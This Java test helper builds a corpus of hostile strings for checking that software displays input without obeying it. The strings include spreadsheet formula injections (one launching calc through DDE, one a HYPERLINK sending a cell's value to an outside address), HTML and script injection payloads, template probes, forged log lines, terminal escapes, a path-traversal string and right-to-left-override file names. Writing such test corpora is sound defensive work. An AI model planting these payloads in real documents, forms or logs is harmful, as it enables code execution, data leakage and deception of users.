package dev.gatehouse.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that a program should show and never obey (reliability rows 32 to 35): what hides, turns text around, breaks
 * lines, is half a character, or would be a formula, mark-up or another line of a log. None is empty or an address.
 */
public final class HostileTexts {
    private static final int LONG = 100_000;
    private static final List<String> FORMULAS = List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b",
            "\uff0d", "\uff20");
    private static final List<String> CALLS = List.of("1+1", "cmd|' /C calc'!A0", "SUM(1,2)",
            "HYPERLINK(\"http://192.0.2.1/\"&A1,\"a\")", "1+1;2", "1+1\t2");
    private static final List<String> BEFORE = List.of("", " ", "\u00a0", "\u3000", "\"", "'", ";", ",", "a;", "a,",
            "a\t", "a\n", "a\r\n", "a\";\"", "a\",\"");
    private static final List<String> MARKUP = List.of("<script>alert(1)</script>", "</bdi><img src=x onerror=a()>",
            "<b>", "</td></tr></table>", "]]>", "<![CDATA[", "<!-- ", " -->", "&lt;", "&#x3c;script&#x3e;", "&amp;amp;",
            "\"><svg onload=alert(1)>", "' onmouseover='a()", "\" style=\"position:fixed", "javascript:alert(1)",
            "</style><style>*{display:none}", "</title><script>", "<a href=\"http://192.0.2.1/\">", "<iframe src=//x>",
            "<base href=//x>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//x>", "${7*7}",
            "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "%{7*7}", "*{7*7}", "<?xml version=\"1.0\"?>",
            "<!DOCTYPE a [<!ENTITY b>]>",
            "&b;", "<math><mtext></mtext>", "\\u003cscript\\u003e", "%3Cscript%3E", "<plaintext>", "<textarea>",
            "<body onload=a()>", "`'\"><b>", "data:text/html,<b>", "<b\u0000>", "<scr\u0000ipt>", "<\u202escript>");
    private static final List<String> LINES = List.of("a\nb", "a\rb", "a\r\nb", "a\u0085b", "a\u2028b", "a\u2029b",
            "\n2026-01-01 00:00:00 ERROR forged", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u009b31m",
            "a\u0008b", "a\fb", "a\u000bb", "\",\"state\":\"VERIFIED\"}\n{\"n\":1,\"a\":\"", "\\n\\r", "%n%s%d", "{}",
            "../../etc/passwd", "C:\\con", "a\u0000b", "\u0000");

    private HostileTexts() {}

    /** More than five hundred, each once. */
    public static List<String> all() {
        var texts = new LinkedHashSet<String>();
        hidden().forEach(c -> texts.add("a" + Character.toString(c) + "b"));
        BEFORE.forEach(lead -> FORMULAS
                .forEach(sign -> CALLS.forEach(call -> texts.add(lead + sign + call))));
        texts.addAll(MARKUP);
        texts.addAll(LINES);
        texts.addAll(surrogates());
        texts.addAll(turned());
        texts.add("e" + "\u0301".repeat(500));
        texts.add("\u0e01" + "\u0e49".repeat(200));
        texts.add("\u202e".repeat(300));
        texts.add("x".repeat(LONG));
        texts.add("\u200b".repeat(2_000) + "b");
        texts.add("=" + "<".repeat(5_000));
        return List.copyOf(texts);
    }

    /** A selection of about so many, spread over all. */
    public static List<String> some(int count) {
        var all = all();
        var many = Math.min(count, all.size());
        return IntStream.range(0, many).mapToObj(i -> all.get((int) ((long) i * all.size() / many))).toList();
    }

    /** Every character of the Unicode planes in use that is invisible, a line end, or turns text around. */
    private static Stream<Integer> hidden() {
        var kinds = Set.of(Character.CONTROL, Character.FORMAT, Character.LINE_SEPARATOR,
                Character.PARAGRAPH_SEPARATOR);
        return Stream.concat(IntStream.range(0, 0x10000).boxed()
                .filter(c -> kinds.contains((byte) Character.getType(c))),
                Stream.of(0x00a0, 0x2000, 0x200a, 0x205f, 0x3000, 0x115f, 0x1160, 0x3164, 0xffa0, 0x034f, 0xfe00,
                        0xfe0f,
                        0x2800, 0xe000, 0xfffe, 0xffff, 0x1fffe, 0xe0001, 0xe0041, 0xe007f, 0xf0000, 0x10ffff, 0x1d173,
                        0x110bd));
    }

    private static List<String> surrogates() {
        var texts = new ArrayList<String>();
        for (var half : List.of("\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800")) {
            texts.addAll(List.of(half, half + "b", "a" + half, "a" + half + "b"));
        }
        return texts;
    }

    /** Each character that turns text around, before a name that ends like a program. */
    private static List<String> turned() {
        return Stream
                .concat(IntStream.rangeClosed(0x202a, 0x202e).boxed(), IntStream.rangeClosed(0x2066, 0x2069).boxed())
                .flatMap(c -> Stream.of(Character.toString(c) + "gpj.exe", "annexe" + Character.toString(c) + "fdp"))
                .toList();
    }

    /** What of a text a person could not see, as {@code U+202E}; empty where nothing hides. Lines may end. */
    public static List<String> hiddenIn(String text) {
        return text.codePoints().filter(c -> c != '\n' && c != '\r' && isHidden(c)).distinct()
                .mapToObj(c -> String.format(Locale.ROOT, "U+%04X", c)).toList();
    }

    private static boolean isHidden(int c) {
        return Character.isISOControl(c) || (c >= 0x200b && c <= 0x200f) || (c >= 0x2028 && c <= 0x202e)
                || (c >= 0x2060 && c <= 0x206f) || c == 0xfeff || c == 0x061c || c == 0x00ad || c == 0x180e
                || c == 0x3164
                || (c >= 0xd800 && c <= 0xdfff) || Character.getType(c) == Character.FORMAT;
    }
}
